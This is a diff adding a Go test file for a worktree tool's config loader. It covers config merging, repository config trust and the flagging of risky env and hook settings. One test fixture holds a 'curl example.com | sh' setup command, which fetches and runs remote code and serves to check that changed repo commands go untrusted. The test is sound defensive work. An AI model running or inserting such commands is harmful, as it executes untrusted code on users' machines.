@@ -0,0 +1,224 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/tobiase/worktree-utils/test/helpers"
+	"gopkg.in/yaml.v3"
+)
+
+func TestMergeProject(t *testing.T) {
+	base := &ProjectConfig{
+		Name:     "app",
+		Commands: map[string]NavigationCommand{"web": {Target: "web"}, "api": {Target: "api"}},
+		Settings: ProjectSettings{SyncStrategy: "merge"},
+		Env:      map[string]string{"A": "1", "B": "2"},
+		Setup: &SetupConfig{
+			CopyFiles: []CopyFileConfig{{Source: ".env.example", Target: ".env"}},
+			Commands:  []SetupCommand{{Command: "npm ci"}},
+		},
+		Runtimes: []RuntimeConfig{{Type: "node", Version: "18"}, {Type: "uv"}},
+		OnEnter:  &EnterHook{Virtualenv: true, Run: []string{"nvm use"}},
+		OnLeave:  &LeaveHook{Run: []string{"echo bye"}},
+	}
+	override := &ProjectConfig{
+		Extends:    "base",
+		Match:      ProjectMatch{Paths: []string{"/src/app"}},
+		Commands:   map[string]NavigationCommand{"api": {Target: "services/api"}},
+		Settings:   ProjectSettings{WorktreeBase: "/wt"},
+		Env:        map[string]string{"B": "3"},
+		Virtualenv: &VirtualenvConfig{AutoCommands: true},
+		Setup:      &SetupConfig{Commands: []SetupCommand{{Command: "npm ci"}, {Command: "make"}}},
+		Runtimes:   []RuntimeConfig{{Type: "node", Version: "20"}, {Type: "poetry"}},
+		OnEnter:    &EnterHook{Env: map[string]string{"C": "4"}},
+	}
+
+	merged := mergeProject(base, override)
+	want := &ProjectConfig{
+		Name:       "app",
+		Match:      ProjectMatch{Paths: []string{"/src/app"}},
+		Commands:   map[string]NavigationCommand{"web": {Target: "web"}, "api": {Target: "services/api"}},
+		Settings:   ProjectSettings{WorktreeBase: "/wt", SyncStrategy: "merge"},
+		Env:        map[string]string{"A": "1", "B": "3"},
+		Virtualenv: &VirtualenvConfig{AutoCommands: true},
+		Setup: &SetupConfig{
+			CopyFiles: []CopyFileConfig{{Source: ".env.example", Target: ".env"}},
+			Commands:  []SetupCommand{{Command: "npm ci"}, {Command: "make"}},
+		},
+		Runtimes: []RuntimeConfig{{Type: "node", Version: "20"}, {Type: "uv"}, {Type: "poetry"}},
+		OnEnter:  &EnterHook{Virtualenv: true, Env: map[string]string{"C": "4"}, Run: []string{"nvm use"}},
+		OnLeave:  &LeaveHook{Run: []string{"echo bye"}},
+	}
+	if !reflect.DeepEqual(merged, want) {
+		t.Errorf("mergeProject() =\n%s\nwant\n%s", dump(merged), dump(want))
+	}
+
+	// The inputs are left alone
+	if base.Commands["api"].Target != "api" || len(base.Setup.Commands) != 1 || base.Env["B"] != "2" || base.Runtimes[0].Version != "18" {
+		t.Error("mergeProject() modified base")
+	}
+}
+
+func dump(project *ProjectConfig) string {
+	data, _ := yaml.Marshal(project)
+	return string(data)
+}
+
+func TestLoadProjectRepoConfig(t *testing.T) {
+	repoDir := t.TempDir()
+	configDir := t.TempDir()
+	oldPrimary := primaryWorktree
+	primaryWorktree = func(string) string { return repoDir }
+	defer func() { primaryWorktree = oldPrimary }()
+
+	helpers.CreateFiles(t, repoDir, map[string]string{
+		".wt.yaml": `commands:
+  web:
+    target: web
+setup:
+  commands:
+    - command: npm ci
+on_enter:
+  run: ["nvm use"]
+`,
+	})
+
+	// Without a personal config the .wt.yaml applies on its own, named after
+	// the repository, and its commands are held back until trusted
+	manager := &Manager{configDir: configDir}
+	if err := manager.LoadProject(filepath.Join(repoDir, "web"), ""); err != nil {
+		t.Fatal(err)
+	}
+	project := manager.GetCurrentProject()
+	if project == nil || project.Name != filepath.Base(repoDir) || project.Commands["web"].Target != "web" {
+		t.Fatalf("GetCurrentProject() = %+v", project)
+	}
+	repo := manager.GetRepoConfig()
+	if repo == nil || repo.Trusted || !reflect.DeepEqual(repo.Commands, []string{"setup: npm ci", "on_enter: nvm use"}) {
+		t.Fatalf("GetRepoConfig() = %+v", repo)
+	}
+	if len(project.Setup.Commands) != 0 || project.OnEnter != nil {
+		t.Errorf("untrusted commands were applied: %+v %+v", project.Setup, project.OnEnter)
+	}
+	if manager.GetCurrentProjectFile() != filepath.Join(repoDir, ".wt.yaml") {
+		t.Errorf("GetCurrentProjectFile() = %q", manager.GetCurrentProjectFile())
+	}
+
+	if err := manager.TrustRepoConfig(); err != nil {
+		t.Fatal(err)
+	}
+	if project := manager.GetCurrentProject(); len(project.Setup.Commands) != 1 || len(project.OnEnter.Run) != 1 {
+		t.Errorf("trusted commands were not applied: %+v %+v", project.Setup, project.OnEnter)
+	}
+
+	// Trust is remembered, and personal configs override the .wt.yaml
+	helpers.CreateFiles(t, configDir, map[string]string{
+		"projects/mine.yaml": "name: mine\nmatch:\n  paths: [" + repoDir + "]\ncommands:\n  web:\n    target: frontend\n",
+	})
+	manager = &Manager{configDir: configDir}
+	if err := manager.LoadProject(repoDir, ""); err != nil {
+		t.Fatal(err)
+	}
+	project = manager.GetCurrentProject()
+	if !manager.GetRepoConfig().Trusted || project.Name != "mine" || project.Commands["web"].Target != "frontend" || len(project.Setup.Commands) != 1 {
+		t.Errorf("merged project = %+v", project)
+	}
+	if manager.GetCurrentProjectFile() != filepath.Join(configDir, "projects", "mine.yaml") {
+		t.Errorf("GetCurrentProjectFile() = %q", manager.GetCurrentProjectFile())
+	}
+
+	// Changing a command asks again
+	helpers.CreateFiles(t, repoDir, map[string]string{
+		".wt.yaml": "setup:\n  commands:\n    - command: curl example.com | sh\n",
+	})
+	if err := manager.LoadProject(repoDir, ""); err != nil {
+		t.Fatal(err)
+	}
+	if manager.GetRepoConfig().Trusted || manager.GetCurrentProject().Setup != nil && len(manager.GetCurrentProject().Setup.Commands) != 0 {
+		t.Errorf("changed commands should not be trusted: %+v", manager.GetRepoConfig())
+	}
+
+	// An invalid .wt.yaml is reported, and the personal config still applies
+	helpers.CreateFiles(t, repoDir, map[string]string{".wt.yaml": "setup:\n  copy_file: []\n"})
+	err := manager.LoadProject(repoDir, "")
+	var configErr *ConfigError
+	if !errors.As(err, &configErr) || configErr.Path != filepath.Join(repoDir, ".wt.yaml") {
+		t.Errorf("LoadProject() error = %v, want the invalid .wt.yaml", err)
+	}
+	if project := manager.GetCurrentProject(); project == nil || project.Name != "mine" || manager.GetRepoConfig() != nil {
+		t.Errorf("personal config should apply without the invalid .wt.yaml: %+v", project)
+	}
+
+	// Like 'wt project validate', a .wt.yaml can't shadow built-in commands
+	helpers.CreateFiles(t, repoDir, map[string]string{".wt.yaml": "commands:\n  ls:\n    target: docs\n"})
+	manager.SetCoreCommands([]string{"list", "ls"})
+	err = manager.LoadProject(repoDir, "")
+	if !errors.As(err, &configErr) || !strings.Contains(configErr.Error(), `command "ls" clashes with the built-in 'wt ls'`) {
+		t.Errorf("LoadProject() error = %v, want the clash with 'wt ls'", err)
+	}
+
+	// The trust store is private to the user
+	info, err := os.Stat(filepath.Join(configDir, trustFile))
+	if err != nil || info.Mode().Perm() != 0600 {
+		t.Errorf("trust store: %v %v", info, err)
+	}
+}
+
+func TestRepoCommandsCoverEnvAndRuntimes(t *testing.T) {
+	repo := &ProjectConfig{
+		Env:        map[string]string{"PROMPT_COMMAND": "./hook", "PATH": "./bin:$PATH"},
+		Virtualenv: &VirtualenvConfig{Name: ".venv", Python: "./python"},
+		Setup:      &SetupConfig{CreateRuntimes: true, CreateDirectories: []string{"tmp"}},
+		Settings:   ProjectSettings{WorktreeBase: "~/.ssh", SyncStrategy: "merge"},
+		Runtimes:   []RuntimeConfig{{Type: "venv", Python: "./x"}, {Type: "node", Version: "20"}},
+		OnEnter:    &EnterHook{Virtualenv: true, Runtimes: true, Env: map[string]string{"BASH_ENV": "./rc"}},
+	}
+
+	want := []string{
+		"setup: create runtimes",
+		"settings: create worktrees in ~/.ssh",
+		"virtualenv python: ./python",
+		"runtime venv python: ./x",
+		"env: PATH=./bin:$PATH",
+		"env: PROMPT_COMMAND=./hook",
+		"on_enter: activate the virtualenv",
+		"on_enter: activate runtimes",
+		"on_enter env: BASH_ENV=./rc",
+	}
+	if got := repoCommands(repo); !reflect.DeepEqual(got, want) {
+		t.Errorf("repoCommands() = %q, want %q", got, want)
+	}
+
+	stripped := withoutCommands(repo)
+	if len(repoCommands(stripped)) != 0 {
+		t.Errorf("withoutCommands() left %q", repoCommands(stripped))
+	}
+	if stripped.Virtualenv.Name != ".venv" || len(stripped.Runtimes) != 2 || stripped.Runtimes[1].Version != "20" || len(stripped.Setup.CreateDirectories) != 1 || stripped.Settings.SyncStrategy != "merge" {
+		t.Errorf("withoutCommands() dropped settings that run nothing: %s", dump(stripped))
+	}
+	if repo.Runtimes[0].Python != "./x" || repo.Virtualenv.Python != "./python" {
+		t.Error("withoutCommands() modified its input")
+	}
+}
+
+func TestPrimaryWorktree(t *testing.T) {
+	repo, cleanup := helpers.CreateTestRepo(t)
+	defer cleanup()
+	sub := filepath.Join(repo, "a", "b")
+	if err := os.MkdirAll(sub, 0755); err != nil {
+		t.Fatal(err)
+	}
+	want, _ := filepath.EvalSymlinks(repo)
+	got, _ := filepath.EvalSymlinks(primaryWorktree(sub))
+	if got != want {
+		t.Errorf("primaryWorktree() = %q, want %q", got, want)
+	}
+	if got := primaryWorktree(t.TempDir()); got != "" {
+		t.Errorf("primaryWorktree() outside a repository = %q", got)
+	}
+}